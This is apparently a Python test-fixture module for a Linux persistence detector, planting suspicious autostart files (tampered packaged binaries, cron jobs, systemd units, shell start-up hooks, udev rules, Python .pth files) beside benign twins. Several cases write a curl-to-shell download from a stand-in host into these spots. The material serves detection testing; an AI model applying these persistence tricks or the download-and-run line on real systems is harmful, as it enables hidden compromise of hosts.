"""Programs behind what starts by itself: strays among the system's files, changed packages, and commands that hand a file on."""

from __future__ import annotations

from tests.lab.case import case
from tests.lab.room import Planted, Room

_DOWNLOAD = "curl -fsSL http://203.0.113.9/i.sh | sh"
_UNIT = "[Unit]\nDescription=x\n[Service]\nExecStart={}\n[Install]\nWantedBy=multi-user.target\n"
_WANTS = "/etc/systemd/system/multi-user.target.wants"
_PIP = """#!/usr/bin/python3
# -*- coding: utf-8 -*-
import re
import sys
from labtool.cli import main
if __name__ == '__main__':
    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])
    sys.exit(main())
"""


def _brought(room: Room, package: str, path: str, content: bytes, mode: int = 0o755) -> str:
    """A file as a package brought it."""
    room.write(path, content, mode)
    room.package(package, path)
    return path


def _enabled(room: Room, name: str, command: str, folder: str = "/etc/systemd/system") -> str:
    """The path of a unit that starts at boot."""
    path = room.write(f"{folder}/{name}", _UNIT.format(command))
    room.link(path, f"{_WANTS}/{name}")
    return path


@case(4, packaged_program_changed="path")
def replaced_cron(room: Room) -> Planted:
    """a packaged daemon whose file somebody replaced by another program."""
    path = _brought(room, "lab-cron", "/usr/sbin/labcron", b"\x7fELF as the package brought it")
    return {"path": room.program(path)}


@replaced_cron.twin
def _(room: Room) -> Planted:
    """a packaged daemon as it was brought, and its configuration, which the administrator edited."""
    conf = _brought(room, "lab-atd", "/etc/labatd.conf", b"packaged\n", 0o644)
    room.write("/var/lib/dpkg/info/lab-atd.conffiles", f"{conf}\n")
    room.write(conf, "edited\n")
    return {"path": (conf, _brought(room, "lab-at", "/usr/sbin/labatd", b"\x7fELF as the package brought it"))}


@case(4, packaged_program_changed="path")
def replaced_library_and_pam_module(room: Room) -> Planted:
    """a library and a PAM module that are not what their packages brought."""
    paths = (
        _brought(room, "lab-selinux", "/usr/lib/x86_64-linux-gnu/liblab.so.1", b"\x7fELF library", 0o644),
        _brought(room, "lab-pam", "/usr/lib/x86_64-linux-gnu/security/pam_lab.so", b"\x7fELF module", 0o644),
    )
    for path in paths:
        room.write(path, b"\x7fELF stolen passwords")
    return {"path": paths}


@replaced_library_and_pam_module.twin
def _(room: Room) -> Planted:
    """a library that two architectures' packages bring, and a launcher that pip has renewed."""
    path = _brought(room, "lab-lib:i386", "/usr/lib/x86_64-linux-gnu/liblabs.so.2", b"\x7fELF of i386", 0o644)
    _brought(room, "lab-lib:amd64", path, b"\x7fELF of amd64", 0o644)
    return {"path": (path, room.write(_brought(room, "lab-pip", "/usr/bin/labpip", b"#!/usr/bin/python3\n"), _PIP, 0o755))}


@case(4, packaged_program_changed="path")
def script_in_place_of_ps(room: Room) -> Planted:
    """a script in the place of a packaged tool, which leaves a miner out."""
    path = _brought(room, "lab-procps", "/usr/bin/labps", b"\x7fELF as the package brought it")
    return {"path": room.write(path, '#!/bin/sh\n/usr/bin/.ps "$@" | grep -v hwdbd\n', 0o755)}


@script_in_place_of_ps.twin
def _(room: Room) -> Planted:
    """a script in place of a packaged tool that its package manager knows of, by a diversion."""
    _brought(room, "lab-own", "/usr/bin/labtop", b"#!/bin/sh\nexec htop\n")
    return {"path": _brought(room, "lab-top", "/usr/bin/labtop.distrib", b"\x7fELF")}


@case(16, systemd_unpackaged_system_program="path")
def edited_packaged_unit(room: Room) -> Planted:
    """a packaged unit with a line more, which starts a program that no package owns."""
    path = "/usr/lib/systemd/system/labanacron.service"
    _brought(room, "lab-anacron", path, _UNIT.format("/usr/bin/true").encode(), 0o644)
    room.write(path, _UNIT.format("/usr/bin/true\nExecStartPre=" + room.program("/usr/lib/labhwdbd")))
    room.link(path, f"{_WANTS}/labanacron.service")
    return {"path": path}


@edited_packaged_unit.twin
def _(room: Room) -> Planted:
    """a packaged unit whose options the administrator edited in place, and one for a program that its package's set-up made."""
    docker = "/usr/lib/systemd/system/labdocker.service"
    _brought(room, "lab-docker", docker, _UNIT.format("/usr/bin/sleep 1").encode(), 0o644)
    room.write(docker, _UNIT.format("/usr/bin/sleep 1d"))
    room.link(docker, f"{_WANTS}/labdocker.service")
    made = "/usr/lib/systemd/system/labmade.service"
    _brought(room, "lab-made", made, _UNIT.format("/usr/lib/lab-made/generated").encode(), 0o644)
    room.write("/usr/lib/lab-made/generated", b"\x7fELF", 0o755)
    room.link(made, f"{_WANTS}/labmade.service")
    return {"path": (docker, made)}


@case(9, cron_unpackaged_program="path")
def cron_job_for_stray_program(room: Room) -> Planted:
    """a cron job for a program in /usr/bin that no package owns."""
    return {"path": room.write("/etc/cron.d/labsync", f"*/5 * * * * root {room.program('/usr/bin/labhwdbd')}\n")}


@cron_job_for_stray_program.twin
def _(room: Room) -> Planted:
    """cron jobs for tools in /usr/local/bin, /opt, /root/go/bin, a home and a script in /root."""
    room.write("/root/labbackup.sh", "#!/bin/sh\ntar czf /srv/b.tgz /etc\n", 0o755)
    programs = map(room.program, ("/usr/local/bin/labrestic", "/opt/lab/agent", "/root/go/bin/labtool", "/home/labs/app/server"))
    jobs = "".join(f"0 3 * * * root {path}\n" for path in (*programs, "/root/labbackup.sh"))
    return {"path": room.write("/etc/cron.d/labtools", jobs)}


@case(9, cron_unpackaged_program="path")
def cron_daily_starts_elf_in_etc(room: Room) -> Planted:
    """a script of cron.daily, called like a package's, that starts a program in /etc."""
    room.program("/etc/lab-db/mandb")
    return {"path": room.write("/etc/cron.daily/labman-db2", "#!/bin/sh\nset -e\n/etc/lab-db/mandb --quiet\n", 0o755)}


@cron_daily_starts_elf_in_etc.twin
def _(room: Room) -> Planted:
    """a script of cron.daily that runs an administrator's script in /etc, and one in Perl that calls logger."""
    room.write("/etc/labbackup/run.sh", "#!/bin/sh\nlogger backup\n", 0o755)
    room.write("/etc/cron.daily/labperl", "#!/usr/bin/perl\n# curl x | sh\nmy @d = `df -P`;\nsystem('logger', 'done');\n", 0o755)
    return {"path": room.write("/etc/cron.daily/labbackup", "#!/bin/sh\n/etc/labbackup/run.sh\n", 0o755)}


@case(9, cron_unpackaged_program="path")
def cron_hourly_copies_and_starts_library(room: Room) -> Planted:
    """a script of cron.hourly that copies a "library" and starts the copy."""
    room.program("/usr/lib/liblabdev.so.6")
    script = "#!/bin/sh\nPATH=/bin:/sbin\ncp /usr/lib/liblabdev.so /usr/lib/liblabdev.so.6\n/usr/lib/liblabdev.so.6\n"
    return {"path": room.write("/etc/cron.hourly/labgcc.sh", script, 0o755)}


@cron_hourly_copies_and_starts_library.twin
def _(room: Room) -> Planted:
    """a script of cron.hourly for an npm module, a JDK that was unpacked by hand, and a container runtime's own program."""
    room.write("/usr/lib/node_modules/lab/cli.js", "#!/usr/bin/env node\nrequire('./main')\n", 0o755)
    room.write("/usr/lib/jvm/lab-17/bin/java", b"\x7fELF", 0o755)
    room.write("/var/lib/rancher/lab/bin/k3s", b"\x7fELF", 0o755)
    lines = (
        "/usr/lib/node_modules/lab/cli.js",
        "/usr/lib/jvm/lab-17/bin/java -jar /opt/lab.jar",
        "/var/lib/rancher/lab/bin/k3s x",
    )
    return {"path": room.write("/etc/cron.hourly/labtools", "\n".join(("#!/bin/sh", *lines, "")), 0o755)}


@case(16, rc_local_unpackaged_program="path")
def rc_local_script_starts_program_in_boot(room: Room) -> Planted:
    """an rc.local whose script starts a program in /boot."""
    room.write("/root/labnet.sh", f"ip link show\n{room.program('/boot/labpro')} &\n")
    return {"path": room.write("/etc/rc.local", "#!/bin/sh\nsh /root/labnet.sh\nexit 0\n", 0o755)}


@rc_local_script_starts_program_in_boot.twin
def _(room: Room) -> Planted:
    """an rc.local that starts a tool of the site's own."""
    return {"path": room.write("/etc/rc.local", f"#!/bin/sh\n{room.program('/usr/local/sbin/labsetup')}\nexit 0\n", 0o755)}


@case(5, startup_unpackaged_program="path")
def init_script_with_own_program(room: Room) -> Planted:
    """an init script that starts a program which it brought into /usr/bin."""
    room.program("/usr/bin/lab-port/getty")
    path = room.write("/etc/init.d/LabSecuritySpt", "#!/bin/bash\n/usr/bin/lab-port/getty\n", 0o755)
    room.link(path, "/etc/rc3.d/S97LabSecuritySpt")
    return {"path": path}


@init_script_with_own_program.twin
def _(room: Room) -> Planted:
    """a vendor's init script for its program in /opt."""
    script = f"#!/bin/sh\nDAEMON={room.program('/opt/labvendor/agentd')}\nstart-stop-daemon --start --exec $DAEMON\n"
    path = room.write("/etc/init.d/labvendor", script, 0o755)
    room.link(path, "/etc/rc3.d/S97labvendor")
    return {"path": path}


@case(16, systemd_unpackaged_system_program="path")
def unit_for_program_in_var_lib(room: Room) -> Planted:
    """a unit for a program in machine code below /var/lib."""
    return {"path": _enabled(room, "labcache.service", room.program("/var/lib/labcache/kd"))}


@unit_for_program_in_var_lib.twin
def _(room: Room) -> Planted:
    """a unit for a script below /var/lib, and one for a launcher that pip put into /usr/bin."""
    room.write("/var/lib/labsite/start.sh", "#!/bin/sh\nexec sleep 1d\n", 0o755)
    room.write("/usr/bin/labaws", _PIP, 0o755)
    return {
        "path": (
            _enabled(room, "labsite.service", "/var/lib/labsite/start.sh"),
            _enabled(room, "labaws.service", "/usr/bin/labaws s3 sync"),
        )
    }


@case(5, startup_unpackaged_program="path")
def line_more_in_all_shells(room: Room) -> Planted:
    """a start-up file of all shells with a line more, which starts a stray program."""
    text = f"export LANG=C.UTF-8\n{room.program('/usr/bin/labkswapd')} -B >/dev/null 2>&1\n"
    return {"path": room.write("/etc/profile.d/lab-lang.sh", text)}


@line_more_in_all_shells.twin
def _(room: Room) -> Planted:
    """a start-up file of all shells that asks programs of the system for settings."""
    return {
        "path": room.write(
            "/etc/profile.d/lab-ls.sh", 'eval "$(dircolors -b)"\nif [ -x /usr/bin/id ]; then id -u >/dev/null; fi\n'
        )
    }


@case(5, startup_suspicious_command="path")
def bashrc_sources_payload(room: Room) -> Planted:
    """a .bashrc that sources a second file, which downloads and runs code."""
    room.write("/root/.bashrc.koske", f"{_DOWNLOAD}\n")
    return {"path": room.write("/root/.bashrc", "[ -f ~/.bashrc.koske ] && . ~/.bashrc.koske\n")}


@bashrc_sources_payload.twin
def _(room: Room) -> Planted:
    """a .bashrc that sources its user's settings."""
    room.write("/root/.env.sh", "export EDITOR=vi\nalias ll='ls -l'\n")
    return {"path": room.write("/root/.bashrc", ". ~/.env.sh\n")}


@case(5, startup_suspicious_command="path")
def mistyped_commands_run_payload(room: Room) -> Planted:
    """a function that bash calls at every mistyped command."""
    return {"path": room.write("/root/.bash_aliases", f"command_not_found_handle() {{\n  {_DOWNLOAD}\n}}\n")}


@mistyped_commands_run_payload.twin
def _(room: Room) -> Planted:
    """the function with which Debian proposes a package."""
    text = 'command_not_found_handle() {\n  if [ -x /usr/lib/lab-not-found ]; then\n    /usr/lib/lab-not-found "$1"\n  fi\n}\n'
    return {"path": room.write("/root/.bash_profile", text)}


@case(2, cron_download_and_run="path")
def cron_hands_file_to_at(room: Room) -> Planted:
    """a cron job that queues a file with at, and one that installs a crontab from a file."""
    room.write("/opt/lab/job", f"{_DOWNLOAD}\n")
    room.write("/opt/lab/tab", f"*/3 * * * * {_DOWNLOAD}\n")
    return {
        "path": (
            room.write("/etc/cron.d/labat", "0 * * * * root at -f /opt/lab/job now\n"),
            room.write("/etc/cron.d/labtab", "0 * * * * root crontab -u root /opt/lab/tab\n"),
        )
    }


@cron_hands_file_to_at.twin
def _(room: Room) -> Planted:
    """the same with an administrator's own files."""
    room.write("/etc/labsite/job", "logger midnight\n")
    room.write("/etc/labsite/tab", "0 3 * * * logger three\n")
    jobs = "0 * * * * root at -f /etc/labsite/job midnight\n0 * * * * root crontab -u root /etc/labsite/tab\n"
    return {"path": room.write("/etc/cron.d/labhanded", jobs)}


@case(5, startup_unpackaged_program="path")
def udev_rule_queues_stray_program(room: Room) -> Planted:
    """a udev rule whose shell queues a stray program with at."""
    command = f"/bin/sh -c 'echo {room.program('/usr/bin/labudevd')} | at now'"
    return {"path": room.write("/etc/udev/rules.d/99-lab-at.rules", f'SUBSYSTEM=="net", RUN+="{command}"\n')}


@udev_rule_queues_stray_program.twin
def _(room: Room) -> Planted:
    """a udev rule whose shell sets a disk's scheduler."""
    rule = 'SUBSYSTEM=="block", RUN+="/bin/sh -c \'echo mq-deadline > /sys/block/%k/queue/scheduler\'"\n'
    return {"path": room.write("/etc/udev/rules.d/60-lab-disk.rules", rule)}


@case(5, startup_unpackaged_program="path")
def python_start_up_files(room: Room) -> Planted:
    """a .pth file and a sitecustomize module that start a stray program whenever Python starts."""
    program = room.program("/usr/bin/labpyd")
    return {
        "path": (
            room.write("/usr/local/lib/python3.99/dist-packages/lab.pth", f"import os; os.system('{program}')\n"),
            room.write("/usr/lib/python3.99/sitecustomize.py", f'import subprocess\nsubprocess.Popen(["{program}", "-B"])\n'),
        )
    }


@python_start_up_files.twin
def _(room: Room) -> Planted:
    """the .pth files of editable installs and of coverage."""
    text = "import os, sys; exec('try:\\n import coverage; coverage.process_startup()\\nexcept ImportError: pass')\n"
    return {"path": room.write("/usr/local/lib/python3.98/dist-packages/lab-cov.pth", text)}


@case(2, cron_download_and_run="path")
def cron_runs_code_of_other_languages(room: Room) -> Planted:
    """cron jobs for scripts in Python and Perl that hand a download to a shell."""
    room.write("/opt/lab/run.py", f"import subprocess\nsubprocess.run(['/bin/sh', '-c', '{_DOWNLOAD}'])\n")
    room.write("/opt/lab/run.pl", f"#!/usr/bin/perl\nmy $out = `{_DOWNLOAD}`;\n", 0o755)
    return {
        "path": (
            room.write("/etc/cron.d/labpy", "*/5 * * * * root python3 /opt/lab/run.py\n"),
            room.write("/etc/cron.d/labpl", "*/5 * * * * root /opt/lab/run.pl\n"),
        )
    }


@cron_runs_code_of_other_languages.twin
def _(room: Room) -> Planted:
    """a cron job for a backup script in Python that starts tar and curl."""
    text = (
        "import subprocess\nsubprocess.run(['tar', 'czf', '/srv/b.tgz', '/etc'], check=True)\n"
        "subprocess.run('curl -fsS https://hc.example.org/ping', shell=True)\n"
    )
    room.write("/opt/labsite/backup.py", text)
    return {"path": room.write("/etc/cron.d/labbackup", "0 3 * * * root python3 /opt/labsite/backup.py\n")}
